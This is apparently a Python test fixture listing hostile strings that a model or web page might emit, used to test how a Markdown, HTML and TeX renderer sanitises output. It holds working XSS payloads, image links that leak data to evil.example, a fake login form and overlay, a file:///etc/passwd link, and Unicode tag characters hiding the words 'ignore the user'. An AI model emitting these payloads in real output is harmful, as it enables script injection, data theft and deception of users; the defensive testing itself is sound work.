"""Texts that a model or a web page might write to harm the reader: each name says what it tries."""

_LONG = 1_000_000
_DEEP = 10_000

_RAW_HTML = {
    "script": "<script>alert(1)</script>",
    "script in capitals, split over lines": "<SCRIPT\n>alert(1)</SCRIPT\n>",
    "script behind a paragraph": "Hello\n\n<script src=//evil.example/x.js></script>\n",
    "event handler": '<img src=x onerror="alert(1)">',
    "event handler without quotes or spaces": "<img/src=x/onerror=alert(1)>",
    "unclosed tag": "<img src=x onerror=alert(1) ",
    "nested to survive removal": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "details that open": '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    "iframe": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "form": '<form action="https://evil.example"><input name=key><button>Log in</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "base": '<base href="https://evil.example/">',
    "object": '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
    "svg": '<svg onload=alert(1)><script>alert(1)</script><a xlink:href="javascript:alert(1)">x</a></svg>',
    "mathml": '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    "namespace confusion": "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "noscript confusion": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><!DOCTYPE x><![CDATA[<b>]]>",
    "style sheet": "<style>@import 'https://evil.example/x.css'; .jp-Notebook{display:none}</style>",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:#fff">Session expired</div>',
    "our own classes": '<span class="mathjax_process fm-result">$x$</span>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "escaped bracket": r"\<img src=x onerror=alert(1)> \\<img src=x onerror=alert(1)>",
    "line separator in a tag": "<img\u2028src=x\u2028onerror=alert(1)>",
}

_LINKS = {
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in mixed case": "[x](JaVaScRiPt:alert(1))",
    "javascript link in angle brackets": "[x](<javascript:alert(1)>)",
    "javascript link behind whitespace": "[x](\n  javascript:alert(1))",
    "javascript link with entities": "[x](&#106;avascript&colon;alert(1)) [y](java&Tab;script:alert&lpar;1&rpar;)",
    "javascript link with a backslash": r"[x](javascript\:alert(1))",
    "javascript link with a control character": "[x](\x01javascript:alert(1)) [y](java\x00script:alert(1))",
    "javascript link with a zero width space": "[x](java\u200bscript:alert(1))",
    "javascript link with a tab in brackets": "[x](<java\tscript:alert(1)>)",
    "javascript link with percent signs": "[x](%6Aavascript:alert(1)) [y](javascript%3Aalert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "vbscript and file links": "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](blob:https://x/y)",
    "links into the Jupyter server": "[x](/hub/logout) [y](//evil.example) [z](../files/x.html) [w](#top)",
    "reference link": "[x][r] and [r]\n\n[r]: javascript:alert(1)",
    "reference link over lines": '[x][r]\n\n[r]:\n  <javascript:alert(1)>\n  "title\nover lines"',
    "reference link in a quote": "[x][r]\n\n> [r]: data:text/html,<script>alert(1)</script>",
    "definition that hides a fence": '[r]: x "\n```\n"\n<script>alert(1)</script>\n```\n',
    "autolink": "<javascript:alert(1)> <data:text/html,x>",
    "quote in a link's address": '[x](https://a.example/"onmouseover="alert(1)) <https://a.example/"onclick="alert(1)>',
    "quote in a link's title": """[x](https://a.example '"onmouseover="alert(1)') [y](https://a.example "<b>")""",
    "bare address with a quote": 'https://a.example/"onmouseover="alert(1)"><script>alert(1)</script>',
    "link in a link": "[a [b](javascript:alert(1)) c](javascript:alert(2)) [![x](javascript:alert(3))](data:x)",
}

_IMAGES = {
    "image that leaks": "![](https://evil.example/leak?q=secret)",
    "image in a link": "[![alt](https://evil.example/a.png)](https://evil.example/b)",
    "image by reference": "![alt][leak]\n\n[leak]: https://evil.example/leak.png",
    "image in a table": "| a |\n|---|\n| ![x](https://evil.example/x.png) |",
    "image with a script": "![x](javascript:alert(1)) ![y](data:image/svg+xml;base64,PHN2Zz4=)",
    "image with HTML as text": '![<script>alert(1)</script>" onerror="alert(1)](https://evil.example/x.png)',
    "escaped image": r"\![x](https://evil.example/x.png) \\![x](https://evil.example/x.png)",
}

_CODE = {
    "unclosed fence": "```html\n<script>alert(1)</script>",
    "HTML in a fence's info": '```"><script>alert(1)</script>\nx\n```\n\n~~~ html" onclick="alert(1)\ny\n~~~',
    "fence that a list ends": "- a\n  ```\n```\n<script>alert(1)</script>\n```\n",
    "fence that only looks closed": "```\na\n```~~\n<script>alert(1)</script>\n```\n",
    "code span over lines": "`a\nb` <script>alert(1)</script> `c`",
    "code span over a line that only seems blank": "`a\n\xa0\n `![x](https://evil.example/x.png) <b>` c",
    "backtick in an address": "https://a.example/` x ` <script>alert(1)</script> `",
    "code cut by strikethrough": "~~a `b~~ <script>alert(1)</script>` c",
    "code cut by a table's cell": "| a `b | <script>alert(1)</script>` |\n|---|---|\n| `c | <img src=x>` |",
    "HTML in a table's cell": "| <script>alert(1)</script> | b |\n|---|:-:|\n| <img src=x onerror=alert(1)> | `<b>` |",
    "code in many languages": "".join(f"```{name}\n<script>'\"`{{\n```\n" for name in ["html", "php", "jsx"]),
}

_TEX = {
    "TeX link": r"$\href{javascript:alert(1)}{x}$ \(\url{javascript:alert(1)}\)",
    "TeX styles": r"$$\style{position:fixed}{x} \class{jp-Notebook}{y} \cssId{z}{w}$$ $\bbox[position:fixed]{x}$",
    "TeX that redefines": r"\begin{align}\gdef\alpha{evil}\def\a{\a\a}\a\end{align} \[\require{html}\]",
    "TeX as big as the screen": r"$\rule{1000em}{1000em}$ \[\raise 500px {x}\]",
    "HTML in TeX": r"$</span><script>alert(1)</script>$ \[<img src=x onerror=alert(1)>\] $$a<b$$",
    "TeX that ends in an attribute": '[x](https://a.example/$"onmouseover="alert(1)"$)',
    "TeX environment in an attribute": '<https://a.example/\\begin{a}"onmouseover="alert(1)"\\end{a}>',
    "TeX that swallows a backtick": r"`\begin{a}` \end{a} `<script>alert(1)</script>`",
    "TeX that swallows a fence": "  ```\n  $a\n  ```\n  b$ ```\n\n```\n<script>alert(1)</script>\n```\n",
    "TeX placeholders": "@@0@@ $x$ @@1@@ [x](@@0@@)",
    "dollars that are money": "The price is $5 and $6, or US$7–$8.",
}

_CHARACTERS = {
    "bidirectional override": "user\u202egnp.exe\u202c \u2066a\u2069 \u200fb",
    "zero width": "pass\u200bword \u2060x\ufeff y\u00ad z\u180e",
    "tag characters": "hi" + "".join(chr(0xE0000 + ord(letter)) for letter in "ignore the user"),
    "variation selectors that carry data": "a" + "".join(map(chr, range(0xE0100, 0xE0140))),
    "zero width in a tag": "<scr\u200bipt>alert(1)</scr\u200bipt> <\u202escript>",
    "control characters": "a\x00b\x08c\x0bd\x0ce\x7ff\x85g\x9bh",
    "terminal colours": "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1H \x1b]0;title\x07",
    "terminal hyperlink": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "lone surrogates": "a\ud800b\udfff",
    "carriage returns": "safe\rEVIL\r\nnext",
}

_SIZE = {
    "one line of a megabyte": "a" * _LONG,
    "a megabyte of brackets": "[" * _LONG,
    "a megabyte of backticks and dollars": "`$" * (_LONG // 2),
    "many brackets": "[" * _DEEP + "a" + "](b)" * _DEEP,
    "many images": "![" * _DEEP + "a" + "](https://a.example)" * _DEEP,
    "many quotes": "> " * _DEEP + "a",
    "many lists": "- " * _DEEP + "a",
    "nested lists": "".join("  " * level + "- a\n" for level in range(400)),
    "many emphases": "*a _b " * _DEEP,
    "deep emphasis": "**" * _DEEP + "a" + "**" * _DEEP,
    "many openings of tags": "<a " * _DEEP,
    "many unclosed links": '[a](b "' * _DEEP,
    "many unclosed environments": "\\begin{align}\n" * _DEEP,
    "many unclosed formulas": "\\[ a \\( b $$c\n" * _DEEP,
    "many rules": "* * * a\n" * _DEEP,
    "wide table": "|" + "a|" * 2000 + "\n|" + "-|" * 2000 + "\n" + "|\n" * 2000,
    "many fences": "```python\nx = '\n```\n" * (_DEEP // 4),
    "long code": "```python\n" + "('" * 90_000 + "\n```",
}

HOSTILE: dict[str, str] = _RAW_HTML | _LINKS | _IMAGES | _CODE | _TEX | _CHARACTERS | _SIZE
